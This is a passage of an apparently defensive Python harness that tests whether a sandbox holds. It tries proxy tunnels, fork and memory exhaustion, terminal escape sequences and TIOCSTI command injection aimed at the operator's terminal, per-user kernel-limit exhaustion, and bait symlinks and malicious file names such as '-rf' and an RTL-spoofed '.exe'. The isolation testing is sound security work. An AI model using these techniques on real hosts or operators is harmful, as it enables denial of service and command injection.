            return f"the proxy passed it on: {seen[:60]!r}"
        raise Stopped(f"the proxy answers {seen.split(bytes([13]))[0].decode('latin1') or 'nothing'}")
    attempt("the proxy", what)(make)


# The sandbox reaches this host through its proxy, and its services must not.
if CONFIG.get("open_host"):
    for what, first in (("tunnel", "CONNECT {h} HTTP/1.1\r\nHost: {h}\r\n\r\n"), ("request", "GET http://{h}/ HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n")):
        def make(first=first):
            seen = through_proxy(first.replace("{h}", CONFIG["open_host"]))
            if seen:
                return f"the proxy answers a service: {seen[:60]!r}"
            raise Stopped("the sandbox's way to the proxy answers nothing")
        attempt("the proxy", f"a {what} to a host that is open to the sandbox alone")(make)


# ---- limits

@attempt("limits", "more processes than are granted")
def _():
    if not CONFIG["limits_pids"]:
        raise Absent("the driver promises no limit of its own (Kubernetes: podPidsLimit of the node's kubelet)")
    children = []
    try:
        for _ in range(CONFIG["pids"] + 200):
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            children.append(pid)
    except OSError as error:
        raise Stopped(f"{errno.errorcode[error.errno]} after {len(children)} of {CONFIG['pids']}")
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)
    return f"{len(children)} processes at a limit of {CONFIG['pids']}"


@attempt("limits", "more memory than is granted")
def _():
    if not CONFIG["limits_memory"]:
        raise Absent("this machine limits no sandbox's memory as a whole, which the server tells as a weakness")
    # A child allocates in steps, and at most a quarter more than the limit.
    granted = CONFIG["memory_bytes"]
    pid = os.fork()
    if pid == 0:
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2) if resource.getrlimit(resource.RLIMIT_AS)[1] == -1 else None
        held = []
        try:
            for _ in range(granted * 5 // 4 // (1 << 24)):
                held.append(bytearray(b"x" * (1 << 24)))
        except MemoryError:
            os._exit(3)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        raise Stopped(f"the kernel ends it with signal {os.WTERMSIG(status)}")
    if os.WEXITSTATUS(status) == 3:
        raise Stopped("no more is granted (ENOMEM)")
    return f"{granted * 5 // 4} bytes at a limit of {granted}"


# ---- the terminal of the person who operates the server

TITLE = b"\x1b]0;" + CANARY[:12].encode() + b"\x07\x1b]2;" + CANARY[:12].encode() + b"\x1b\\\x1b[21t\x1b]52;c;ZXZpbA==\x07"


@attempt("the operator's terminal", "set its title, read the title back as input, or fill its clipboard, through a console of the host")
def _():
    consoles = ["/dev/console", "/dev/kmsg", "/dev/vcs", "/dev/ttyS0"] + glob.glob("/dev/tty[0-9]*")
    there = [path for path in consoles if os.path.exists(path)]
    if not there:
        raise Absent("there is no console")
    return first_that_works((f"{path} takes escapes", lambda path=path: write_to(path, TITLE)) for path in there)


@attempt("the operator's terminal", "push a command into it (TIOCSTI)")
def _():
    import fcntl
    terminals = [fd for fd in range(3) if os.isatty(fd)]
    if not terminals:
        raise Absent("no terminal of the host is open here")
    for byte in b"id\n":
        fcntl.ioctl(terminals[0], 0x5412, bytes([byte]))
    return "the terminal takes input that nobody typed"


@attempt("the operator's terminal", "escapes in the sandbox's own log, in file names, in output and in a terminal's title")
def _():
    for path in ("/proc/1/fd/1", "/proc/1/fd/2"):
        try:
            write_to(path, TITLE)
        except OSError:
            pass
    os.makedirs("/workspace/bait", exist_ok=True)
    open(b"/workspace/bait/" + TITLE.replace(b"/", b""), "w").write("bait")
    sys.stderr.buffer.write(TITLE)
    sys.stderr.flush()
    raise Harmless("written; what came of them is in the rows below")


def write_to(path, data):
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


# ---- what root of a build shares with the host's root: the kernel counts some things by user

@attempt("limits by user", "take every watch of files that the host's root can have")
def _():
    if not BUILD:
        raise Absent("a sandbox has a user of its own")
    held = []
    while len(held) < 4_000:
        fd = libc.inotify_init1(0)
        if fd < 0:
            code = errno.errorcode[ctypes.get_errno()]
            if held:
                return f"{code} after {len(held)}: programs of this user have none left"
            raise Stopped(f"inotify_init1: {code}")
        held.append(fd)
    return f"{len(held)} instances"


@attempt("limits by user", "take every queued signal that the host's root can have")
def _():
    if not BUILD:
        raise Absent("a sandbox has a user of its own")
    most = resource.getrlimit(resource.RLIMIT_SIGPENDING)[1]
    if most == resource.RLIM_INFINITY or most > 1_024:
        return f"the limit is {most}"
    raise Stopped(f"a build can have {most} of them")


@attempt("limits by user", "take every byte of message queues that the host's root can have")
def _():
    if not BUILD:
        raise Absent("a sandbox has a user of its own")
    most = resource.getrlimit(resource.RLIMIT_MSGQUEUE)[1]
    if most == resource.RLIM_INFINITY or most > 65_536:
        return f"the limit is {most}"
    raise Stopped(f"a build can have {most} of them")


# ---- files that the server or a person reads afterwards; a check from outside looks at the effect

@attempt("what is read outside", "links, odd names and escapes are laid for the server and its users")
def _():
    os.makedirs("/workspace/bait", exist_ok=True)
    os.chdir("/workspace/bait")
    for name, target in (("link", CONFIG["canary_file"]), ("proc", "/proc/1/root" + CONFIG["canary_file"]), ("folder", os.path.dirname(CONFIG["canary_file"])), ("control", "/run/corral/control")):
        if not os.path.islink(name):
            os.symlink(target, name)
    os.path.exists("fifo") or os.mkfifo("fifo")
    for name in ("..\\..\\evil.bat", "C:evil", "a\nb", "-rf", "\u202egpj.exe", "NUL", "aux.txt"):
        open(name, "w").write("bait")
    raise Harmless("laid; what came of them is in the rows below")


def run(group, what, function):
    """Runs an attempt in its own process, so that its effects end with it."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        signal.alarm(25)
        try:
            outcome = ("escaped", function() or "it worked")
        except Stopped as stopped:
            outcome = ("stopped", str(stopped))
        except Absent as absent:
            outcome = ("absent", str(absent))
        except Harmless as harmless:
            outcome = ("harmless", str(harmless))
        except FileNotFoundError as error:
            outcome = ("absent", f"{error.filename or ''} is not there".strip())
        except OSError as error:
            outcome = ("stopped", errno.errorcode.get(error.errno, type(error).__name__) if error.errno else type(error).__name__)
        except Exception as error:
            outcome = ("escaped", f"the attempt itself broke: {error!r}")
        os.write(write, json.dumps(outcome).encode()[:60000])
        os._exit(0)
    os.close(write)
    report = b""
    while chunk := os.read(read, 65536):
        report += chunk
    os.close(read)
    _, status = os.waitpid(pid, 0)
    if report:
        outcome, by = json.loads(report)
    elif os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGSYS:
        outcome, by = "stopped", "the seccomp filter ends the process"
    else:
        outcome, by = "stopped", f"ended by signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else "no answer"
    return {"group": group, "what": what, "outcome": outcome, "by": by}


def neighbour():
    """Offers the targets that the other sandbox tries to reach, for five minutes."""
    open("/workspace/secret", "w").write(CANARY)
    try:
        called("add_key", b"user", CANARY[:16].encode(), CANARY.encode(), len(CANARY), -4)
    except OSError:
        pass
    server = socket.socket(socket.AF_UNIX)
    server.bind(f"\0neighbour-{CANARY[:16]}")
    server.listen()
    tcp = socket.create_server(("0.0.0.0", CONFIG["neighbour_port"]))
    print("neighbour ready", flush=True)
    import selectors
    waiting = selectors.DefaultSelector()
    for line in (server, tcp):
        waiting.register(line, selectors.EVENT_READ)
    until = time.time() + 300
    while time.time() < until:
        for key, _ in waiting.select(1):
            with key.fileobj.accept()[0] as client:
                client.sendall(CANARY.encode())


if CONFIG.get("mode") == "neighbour":
    neighbour()
else:
    # Attempts that can end the whole sandbox run only by name, one at a time.
    only = CONFIG.get("only")
    chosen = [it for it in ATTEMPTS if (it[1] == only if only else it[0] != "limits")]
    with open(sys.argv[2], "w") as results:
        for group, what, function in chosen:
            results.write(json.dumps(run(group, what, function)) + "\n")
            results.flush()
    print(f"{len(chosen)} attempts")
